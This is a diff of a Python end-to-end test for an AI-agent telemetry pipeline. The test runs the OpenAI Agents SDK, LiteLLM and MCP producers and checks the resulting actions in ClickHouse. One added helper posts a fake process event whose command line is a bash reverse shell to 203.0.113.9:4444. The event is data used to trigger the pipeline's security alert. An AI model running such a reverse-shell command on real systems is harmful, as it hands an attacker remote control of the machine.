@@ -1,10 +1,10 @@
 """Real producers, unchanged, end as actions in ClickHouse: the OpenAI Agents SDK, an OpenAI client
 under OpenTelemetry's GenAI instrumentation, the LiteLLM proxy that it calls, an MCP client and
-server with a tap between them.
+server with a tap between them. What they report to is `tacho up`, which Ctrl-C ends.
 
 They are installed once, into folders of their own under `.cache`, with the versions of
-`producers/requirements.txt` and `litellm.txt`; where no package index can be reached the tests are
-skipped.
+`producers/requirements.txt` and `litellm.txt`; where no package index can be reached their tests
+are skipped.
 """
 
 import hashlib
@@ -15,21 +15,30 @@ import sys
 import time
 import uuid
 from collections.abc import Callable, Iterator
-from contextlib import contextmanager
+from contextlib import ExitStack, contextmanager
+from datetime import UTC, datetime
 from pathlib import Path
-from typing import Any
+from typing import Any, NamedTuple
 
 import httpx
 import pytest
 
 from infra.kafka.broker import free_ports
+from tests.e2e import running
 
 ROOT = Path(__file__).parents[2]
 PROGRAMS = Path(__file__).parent / "producers"
 WITHIN_S = 300.0
 # Of this run's proxy, on loopback: it does not start without one.
 PROXY_KEY = "sk-" + uuid.uuid4().hex
-Shown = Callable[[str, int], list[dict[str, Any]]]
+Rows = list[dict[str, Any]]
+# Which actions, and how many there are to be.
+QUESTIONS = {
+    "agents": ("source_kind = 'openai_agents'", 4),
+    "told twice": ("model_name = 'gpt-4o-mini' AND length(report_sources) = 2", 1),
+    "of the model": ("model_name = 'gpt-4o-mini'", 1),
+    "told thrice": ("kind = 'tool_call' AND length(report_sources) = 3", 2),
+}
 
 pytestmark = [pytest.mark.slow, pytest.mark.timeout(1800)]
 
@@ -41,8 +50,12 @@ def _clean(**more: str) -> dict[str, str]:
     return {**kept, "OPENAI_API_KEY": "none", "LITELLM_LOCAL_MODEL_COST_MAP": "True", **more}
 
 
+class NotInstalledError(Exception):
+    """There is no package index here."""
+
+
 def _installed(wanted: Path) -> Path:
-    """Folder of the programs of an environment with these packages; skips where there is none."""
+    """Folder of the programs of an environment with these packages. Raises NotInstalledError."""
     digest = hashlib.sha256(wanted.read_bytes() + sys.version.encode()).hexdigest()[:12]
     home = ROOT / ".cache" / "producers" / digest
     if not (home / "installed").exists():
@@ -55,48 +68,55 @@ def _installed(wanted: Path) -> Path:
         for step in steps:
             done = subprocess.run(step, check=False, capture_output=True, text=True, timeout=600)
             if done.returncode:
-                pytest.skip(f"the producers cannot be installed: {done.stderr.strip()[-200:]}")
+                said = done.stderr.strip()[-200:]
+                raise NotInstalledError(f"the producers cannot be installed: {said}")
         (home / "installed").touch()
     return home / "bin"
 
 
-@pytest.fixture(scope="module")
-def python() -> Path:
-    """A Python that has the producers' packages."""
-    return _installed(PROGRAMS / "requirements.txt") / "python"
+class Run(NamedTuple):
+    """One `tacho up`, ended by Ctrl-C."""
+
+    folder: Path
+    code: int
+    # The actions of QUESTIONS, by their names; without producers, why there are none.
+    found: dict[str, Rows]
+    lacking: str
+
+    def rows(self, question: str) -> Rows:
+        """Its answer; skips where there were no producers."""
+        if self.lacking:
+            pytest.skip(self.lacking)
+        return self.found[question]
 
 
 @pytest.fixture(scope="module")
-def litellm() -> Path:
-    """LiteLLM's proxy. Its packages do not go with those of the others."""
-    return _installed(PROGRAMS / "litellm.txt") / "litellm"
-
-
-@pytest.fixture(scope="module")
-def shown(python: Path, litellm: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Shown]:
-    """Rows of tacho.actions that fulfil a condition, once there are so many and each producer has
-    ended well.
-    """
+def run(tmp_path_factory: pytest.TempPathFactory) -> Run:
+    """A run in which an alert was raised, and then each producer has ended well."""
     folder = tmp_path_factory.mktemp("producers")
     door_port, clickhouse_port, proxy_port = free_ports(3)
     door, clickhouse = (f"http://127.0.0.1:{port}" for port in (door_port, clickhouse_port))
-    command = [sys.executable, "-m", "tachograph.pipeline.cli", "up", "--no-demo", "--plain",
-               f"--door-port={door_port}", f"--clickhouse-port={clickhouse_port}"]  # fmt: skip
-    with (folder / "out").open("w") as sink, subprocess.Popen(
-        command, cwd=folder, env=_clean(), stdin=subprocess.DEVNULL, stdout=sink, stderr=sink,
-        start_new_session=True,
-    ) as up:  # fmt: skip
+    ports = (f"--door-port={door_port}", f"--clickhouse-port={clickhouse_port}")
+    found: dict[str, Rows] = {}
+    python, proxy, lacking = None, "", ""
+    with ExitStack() as stack:
         try:
-            _wait_until(lambda: _open(f"{door}/readyz"), up, folder / "out")
-            with _proxy(litellm, proxy_port, door, folder / "proxy") as proxy:
-                _run_producers(python, door, proxy)
-                yield lambda where, count: _rows(clickhouse, where, count)
-        finally:
-            up.send_signal(signal.SIGINT)
-            try:
-                up.wait(120)
-            except subprocess.TimeoutExpired:
-                up.kill()
+            # Its packages do not go with those of the others. To start takes it longer than us.
+            litellm = _installed(PROGRAMS / "litellm.txt") / "litellm"
+            python = _installed(PROGRAMS / "requirements.txt") / "python"
+            proxy = stack.enter_context(_proxy(litellm, proxy_port, door, folder / "proxy"))
+        except NotInstalledError as error:
+            lacking = str(error)
+        up = stack.enter_context(running.tacho(folder, "up", "--no-demo", "--plain", *ports))
+        # What has just begun may tell who sends to wait; not every producer does.
+        _wait_until(lambda: _accepted(f"{door}/v1/actions"), up, folder / "out")
+        running.wait_for(folder, running.ALERTED, up)
+        if python is not None:
+            _run_producers(python, door, proxy)
+            found = {name: _rows(clickhouse, *asked) for name, asked in QUESTIONS.items()}
+        up.send_signal(signal.SIGINT)
+        code = up.wait(running.WITHIN_S)
+    return Run(folder, code, found, lacking)
 
 
 @contextmanager
@@ -118,6 +138,20 @@ def _proxy(litellm: Path, port: int, door: str, out: Path) -> Iterator[str]:
             proxy.kill()
 
 
+def _accepted(url: str) -> bool:
+    """Whether the door takes what nobody takes for anything but an attack."""
+    evil = {
+        "kind": "process",
+        "event_time": datetime.now(UTC).isoformat(),
+        "agent_id": "evil",
+        "process_command_line": "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
+    }
+    try:
+        return httpx.post(url, json=[evil], verify=False).status_code == 200  # noqa: S501 - plain HTTP
+    except httpx.HTTPError:
+        return False
+
+
 def _open(url: str) -> bool:
     try:
         # To load certificates, five times a second, would keep a core from what is waited for.
@@ -126,7 +160,7 @@ def _open(url: str) -> bool:
         return False
 
 
-def _wait_until(done: Callable[[], bool], process: "subprocess.Popen[bytes]", out: Path) -> None:
+def _wait_until(done: Callable[[], bool], process: "subprocess.Popen[Any]", out: Path) -> None:
     end = time.monotonic() + WITHIN_S
     while not done():
         assert process.poll() is None, out.read_text()[-3_000:]
@@ -152,11 +186,11 @@ def _run_producers(python: Path, door: str, proxy: str) -> None:
         assert process.returncode == 0, said[-3_000:]
 
 
-def _rows(clickhouse: str, where: str, count: int) -> list[dict[str, Any]]:
-    """The rows as soon as there are `count` of them and they stay so; else what there is."""
+def _rows(clickhouse: str, where: str, count: int) -> Rows:
+    """The rows as soon as there are `count` of them; else what there is."""
     query = f"SELECT * FROM tacho.actions WHERE {where} ORDER BY event_time FORMAT JSON"
     end = time.monotonic() + WITHIN_S
-    rows: list[dict[str, Any]] = []
+    rows: Rows = []
     while time.monotonic() < end:
         rows = httpx.post(clickhouse, content=query, timeout=WITHIN_S).json()["data"]
         if len(rows) == count:
@@ -169,8 +203,8 @@ def _told(row: dict[str, Any], *names: str) -> tuple[Any, ...]:
     return tuple(row[name] for name in names)
 
 
-def test_an_agent_of_the_agents_sdk_is_seen_with_its_calls_and_words(shown: Shown) -> None:
-    rows = shown("source_kind = 'openai_agents'", 4)
+def test_an_agent_of_the_agents_sdk_is_seen_with_its_calls_and_words(run: Run) -> None:
+    rows = run.rows("agents")
     assert {_told(row, "agent_id", "session_id") for row in rows} == {
         ("agents-clerk", "agents-talk")
     }
@@ -186,22 +220,19 @@ def test_an_agent_of_the_agents_sdk_is_seen_with_its_calls_and_words(shown: Show
     )  # fmt: skip
 
 
-def test_a_call_that_client_and_gateway_report_is_one_action_with_both_sources(
-    shown: Shown,
-) -> None:
-    where = "model_name = 'gpt-4o-mini' AND length(report_sources) = 2"
-    [call] = shown(where, 1)
+def test_a_call_that_client_and_gateway_report_is_one_action_with_both_sources(run: Run) -> None:
+    [call] = run.rows("told twice")
     assert sorted(call["report_sources"]) == sorted(
         ["litellm", "opentelemetry.instrumentation.openai_v2"]
     )
     assert _told(call, "kind", "content_text", "outcome") == (
         "completion", "refunded", "succeeded",
     )  # fmt: skip
-    assert len(shown("model_name = 'gpt-4o-mini'", 1)) == 1
+    assert len(run.rows("of the model")) == 1
 
 
-def test_an_mcp_call_that_client_server_and_tap_report_is_one_action(shown: Shown) -> None:
-    rows = shown("kind = 'tool_call' AND length(report_sources) = 3", 2)
+def test_an_mcp_call_that_client_server_and_tap_report_is_one_action(run: Run) -> None:
+    rows = run.rows("told thrice")
     assert [sorted(row["report_sources"]) for row in rows] == [
         ["mcp", "mcp-python-sdk", "mcp-python-sdk (server)"]
     ] * 2
@@ -211,3 +242,8 @@ def test_an_mcp_call_that_client_server_and_tap_report_is_one_action(shown: Show
         ("refund", "orders", "tapped-talk", '{"order":-1}', "failed"),
     ]
     assert rows[0]["tool_result"] == "order 7 refunded"
+
+
+def test_ctrl_c_ends_everything_cleanly(run: Run) -> None:
+    assert run.code == 0, running.said(run.folder)[-3_000:]
+    running.ended_cleanly(run.folder)
